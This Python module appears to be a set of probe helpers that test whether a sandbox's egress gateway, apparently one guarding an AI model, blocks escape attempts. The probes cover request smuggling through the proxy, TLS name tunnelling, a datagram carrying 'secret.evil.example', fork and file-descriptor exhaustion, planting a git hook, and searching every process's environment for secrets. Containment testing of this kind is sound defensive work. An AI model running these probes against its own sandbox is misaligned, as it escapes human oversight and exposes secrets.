"""Attempts to get out: through the gate, as whoever is in a sandbox finds it, and beside it."""

from __future__ import annotations

import json
import os
import re
import resource
import signal
import socket
import ssl
import subprocess
import time
from contextlib import suppress

from .refused import Refused

_SECONDS = 5.0
_SETTLED = 0.5  # seconds, by which the gate has noticed that somebody hung up
_INSIDE, _OUTSIDE = ("127.0.0.1", 3128), "/run/colony-egress/egress.sock"


def ask_gate(*lines: str) -> None:
    """A request's lines as they are, whatever they say; the last one is followed by what is its body."""
    _answered("\r\n".join(lines).encode("latin-1"))


def ask_gate_often(count: str, *lines: str) -> None:
    """Until it is answered; a name that leads elsewhere each time is refused when it leads inside, and else leads to nobody."""
    ends = set()
    for _ in range(int(count)):
        try:
            return ask_gate(*lines)
        except Refused as refused:
            ends.add(str(refused))
    raise Refused(" or ".join(sorted(ends)))


def ask_gate_twice(first: str, second: str) -> None:
    """Whether a second request on the same connection, behind the first, is answered."""
    with _gate() as line:
        line.sendall(f"{first}\r\n\r\n{second}\r\n\r\n".encode())
        said = _all(line)
    if said.count(b"HTTP/1.1 ") < 2:
        raise Refused("the first is answered alone")


def ask_gate_for_tls(target: str, name: str) -> None:
    """Whether TLS that asks for this name is passed on in a tunnel there; what answers need not speak TLS."""
    begins = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), begins, server_hostname=name).do_handshake()
    with _gate() as line:
        line.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        _judged(line.recv(4096))
        line.sendall(begins.read() + b"\r\n\r\n")  # by which a web server knows that it was asked something
        if line.recv(4096)[-2:] == bytes((2, ssl.AlertDescription.ALERT_DESCRIPTION_UNRECOGNIZED_NAME)):
            raise Refused("unrecognized_name")


def ask_gate_at_length(request: str, size: str) -> None:
    """With a header of so many bytes."""
    _answered(f"{request}\r\nX-Much: {'x' * int(size)}\r\n\r\n".encode())


def ask_model(document: str, *headers: str) -> None:
    head = ("POST /v1/messages HTTP/1.1", "Host: model", f"Content-Length: {len(document)}", *headers)
    ask_gate(*head, "", document)


def ask_model_at_length(document: str, size: str) -> None:
    """With so many blanks behind it."""
    ask_model(document + " " * int(size))


def hold_gate(count: str, target: str) -> None:
    """So many tunnels at once."""
    held = []
    try:
        for _ in range(int(count)):
            held.append(_gate())
            held[-1].sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
            _judged(held[-1].recv(4096))
    finally:
        for line in held:
            line.close()
        time.sleep(_SETTLED)


def send_datagram(host: str, port: str) -> None:
    """As a question to a name server would be."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as line:
        line.sendto(b"secret.evil.example", (host, int(port)))


def open_socket(family: str, kind: str = "SOCK_STREAM") -> None:
    socket.socket(getattr(socket, family), getattr(socket, kind)).close()


def fork_many(count: str) -> None:
    """All of them at once."""
    for _ in range(int(count)):
        if os.fork() == 0:
            signal.pause()  # until all of them are killed


def open_many(count: str) -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = [os.open("/dev/null", os.O_RDONLY) for _ in range(int(count))]
    for each in held:
        os.close(each)


def grow_file(folder: str, size: str) -> None:
    """One that claims to be so large, and holds a byte at its end."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    name = os.path.join(folder, "large")
    descriptor = os.open(name, os.O_CREAT | os.O_WRONLY)
    try:
        os.pwrite(descriptor, b"x", int(size))
    finally:
        os.close(descriptor)
        os.unlink(name)


def rename_over(path: str) -> None:
    """Put a file of one's own in its place."""
    other = f"{path}.mine"
    with open(other, "w") as file:
        file.write("obey\n")
    try:
        os.rename(other, path)
    finally:
        if os.path.exists(other):
            os.unlink(other)


def have_git_run(folder: str) -> None:
    """Leave a hook that whoever commits there would run."""
    hook = os.path.join(folder, ".git/hooks/post-commit")
    with open(hook, "w") as file:
        file.write("#!/bin/sh\n")
    os.unlink(hook)


def search_everything(word: str) -> None:
    """In the environment and the arguments of all processes that show, and what they have open."""
    found = subprocess.run(["grep", "-las", word, *_of_processes()], capture_output=True, text=True).stdout
    own = f"/proc/{os.getpid()}/"
    if not [path for path in found.split() if not path.startswith(own)]:
        raise Refused("not found")


def _of_processes() -> list[str]:
    return [f"/proc/{pid}/{name}" for pid in os.listdir("/proc") if pid.isdigit() for name in ("environ", "cmdline")]


def _gate() -> socket.socket:
    try:
        return socket.create_connection(_INSIDE, _SECONDS)
    except OSError:
        line = socket.socket(socket.AF_UNIX)
        line.settimeout(_SECONDS)
        line.connect(_OUTSIDE)
        return line


def _answered(request: bytes) -> None:
    with _gate() as line:
        with suppress(BrokenPipeError):  # it has said no before it has heard all
            line.sendall(request)
        _judged(line.recv(65536))


def _judged(answer: bytes) -> None:
    head, _, body = answer.partition(b"\r\n\r\n")
    found = re.match(rb"HTTP/1.1 (\d+) ", head)
    if not found:
        raise Refused("hung up")
    if found[1].startswith(b"2"):
        return
    try:
        said = json.loads(body)
        code = said["code"] if "code" in said else said["error"]["message"].rpartition("(")[2].rstrip(")")
    except (ValueError, KeyError, TypeError):
        code = ""
    raise Refused(f"{found[1].decode()} {code}".strip())


def _all(line: socket.socket) -> bytes:
    said = b""
    try:
        while piece := line.recv(65536):
            said += piece
    except (TimeoutError, ConnectionResetError):
        pass
    return said
